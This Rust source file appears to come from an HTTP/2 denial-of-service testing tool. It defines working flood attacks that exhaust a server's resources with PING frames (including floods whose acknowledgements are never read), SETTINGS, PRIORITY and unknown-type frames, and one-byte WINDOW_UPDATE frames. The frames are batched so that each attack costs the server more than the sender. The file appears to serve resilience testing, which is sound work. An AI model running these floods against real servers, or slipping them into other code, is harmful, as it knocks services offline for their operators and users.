//! Frames about the connection, which a server must obey or acknowledge.

use std::io;

use super::{Attack, flood};
use crate::hostile::{Hostile, h2};

pub const ATTACKS: &[Attack] = &[
    flood("h2-pings", "Send PING frames.", "not measured", |client| {
        Box::pin(frames(client, h2::frame(h2::PING, 0, 0, &[0; 8])))
    }),
    flood(
        "h2-pings-unread",
        "Send PING frames, and read none of the acknowledgements.",
        "not measured",
        |client| Box::pin(pings_unread(client)),
    ),
    flood("h2-settings", "Send SETTINGS frames.", "never closed", |client| {
        Box::pin(frames(client, h2::settings(&[(h2::INITIAL_WINDOW_SIZE, 65_535)])))
    }),
    flood("h2-priorities", "Send PRIORITY frames.", "never closed", |client| {
        Box::pin(frames(client, h2::frame(h2::PRIORITY, 0, 1, &[0, 0, 0, 3, 16])))
    }),
    flood(
        "h2-window-updates",
        "Open a stream, and enlarge its window a byte at a time.",
        "not measured",
        |client| Box::pin(window_updates(client)),
    ),
    flood(
        "h2-unknown-frames",
        "Send frames of a type that does not exist.",
        "not measured",
        |client| Box::pin(frames(client, h2::frame(0xfa, 0, 0, &[0; 16]))),
    ),
];

async fn frames(client: Hostile, frame: Vec<u8>) -> io::Result<()> {
    let mut connection = client.connect().await?;
    connection.send(&h2::opening(&[])).await?;
    let many = many(&frame);
    connection.flood(move || Some(many.clone())).await
}

async fn pings_unread(client: Hostile) -> io::Result<()> {
    let mut connection = client.connect_narrow().await?;
    connection.send(&h2::opening(&[])).await?;
    let many = many(&h2::frame(h2::PING, 0, 0, &[0; 8]));
    connection.flood_unread(move || Some(many.clone())).await
}

async fn window_updates(client: Hostile) -> io::Result<()> {
    let mut connection = client.connect().await?;
    let opening = h2::opening(&[(h2::INITIAL_WINDOW_SIZE, 0)]);
    connection.send(&[opening, h2::get(1, "/media/film.mp4")].concat()).await?;
    let many = many(&h2::frame(h2::WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1]));
    connection.flood(move || Some(many.clone())).await
}

/// A write for each frame would cost this program more than the server.
fn many(frame: &[u8]) -> Vec<u8> {
    frame.repeat(h2::FRAME_MAX / frame.len())
}
